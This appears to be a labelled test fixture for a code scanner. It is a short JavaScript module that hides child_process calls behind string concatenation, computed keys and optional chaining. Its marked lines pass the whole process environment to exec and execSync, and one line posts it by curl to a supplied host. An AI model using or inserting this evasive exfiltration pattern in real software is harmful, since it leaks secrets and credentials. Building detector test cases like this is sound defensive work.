// @desc: A child_process function taken at a followed computed key of an inline require call or of an optional chain, with the environment in its argument (SLO-02).
// @obfuscation: inline require as the object of a followed key, optional computed member, function stored from an optional member, decoy member
function pick() {
  return 'ex' + 'ec';
}
const names = { safe: 'toString', run: 'exec' + 'Sync' };

module.exports = function (pi) {
  require('child_process')[pick()](JSON.stringify(process.env)); // PLANT: child-process exfiltration-chain process-env
  const cp = require('child_process'); // PLANT: child-process
  const run = cp?.[names.run];
  run('curl -d ' + JSON.stringify(process.env) + ' ' + pi.host); // PLANT: exfiltration-chain process-env
  (cp?.[pick()])(JSON.stringify(process.env)); // PLANT: exfiltration-chain process-env
  (cp?.[names.safe])(JSON.stringify(process.env)); // PLANT: process-env
};
